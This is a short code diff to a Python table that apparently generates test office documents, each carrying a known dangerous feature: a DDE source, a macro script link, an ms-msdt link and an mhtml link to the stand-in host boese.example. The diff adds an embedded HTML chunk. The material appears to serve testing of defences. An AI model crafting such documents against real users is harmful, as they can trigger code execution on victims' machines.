@@ -60,6 +60,7 @@ PROGRAMS = {
     "dde-source": ("Liste.ods", open_document("<office:dde-source/>", "ods")),
     "vnd.sun.star.script": ("Brief.odt", open_document('<text:a xlink:href="vnd.sun.star.script:x.py$y?l=share"/>')),
     "ms-msdt": ("Brief.docx", word("oleObject", "ms-msdt:/id")),
+    "eine Seite aus dem Internet": ("Brief.docx", word("aFChunk", "seite.htm", mode="Internal")),
     "mhtml": ("Brief.docx", word("oleObject", "mhtml:http://boese.example/x")),
 }
 
